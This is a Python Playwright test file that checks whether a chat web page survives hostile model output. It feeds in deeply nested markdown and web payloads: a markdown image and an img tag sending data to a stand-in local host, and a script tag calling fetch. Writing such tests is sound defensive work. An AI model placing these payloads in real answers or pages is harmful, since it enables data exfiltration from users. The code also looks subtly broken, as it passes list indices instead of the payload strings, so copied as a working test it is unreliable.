"""S7: a model that writes against the page finds it alive, and nothing leaves it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.journeys.conftest import Visit
from tests.servers.model_server import ModelServer
from tests.servers.product import Product, running

_ANSWERS = (
    ">" * 10_000 + " deep [1]",
    "*" * 20_000 + "a" + "*" * 20_000,
    "1. " * 10_000 + "deep",
    "![x](http://127.0.0.1:9/?d=S) <img src=http://127.0.0.1:9/b> <script>fetch('//a')</script>",
)


# What the model writes next; its server runs in a thread of this process.
_next = {"answer": ""}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Product]:
    folder = tmp_path_factory.mktemp("hostile")

    def reply(_request: dict[str, Any]) -> str:
        return _next["answer"]

    with ModelServer(reply=reply).in_thread() as model:
        route = {"kind": "openai", "base_url": model.base_url, "model": "steady"}
        file = folder / "gateway.yaml"
        file.write_text(json.dumps({"routes": {"bad": route}, "roles": {"answer": ["bad"]}}))
        with running(folder / "var", {"ALMANAC_GATEWAY_FILE": str(file)}) as product:
            yield product


@pytest.mark.parametrize(
    "answer", range(len(_ANSWERS)), ids=["quotes", "stars", "lists", "fetches"]
)
def test_s7_the_page_outlives_a_hostile_answer(visit: Visit, hostile: Product, answer: str) -> None:
    _next["answer"] = answer
    alice = visit("Alice", to=hostile)

    alice.ask("What is the usual dose of Qavoretin?")
    alice.page.reload()

    expect(alice.page.locator(".almanac-footer")).to_be_visible()
    expect(alice.page.locator("#chat-input")).to_be_visible()
    assert alice.errors == []
    assert alice.strays == []
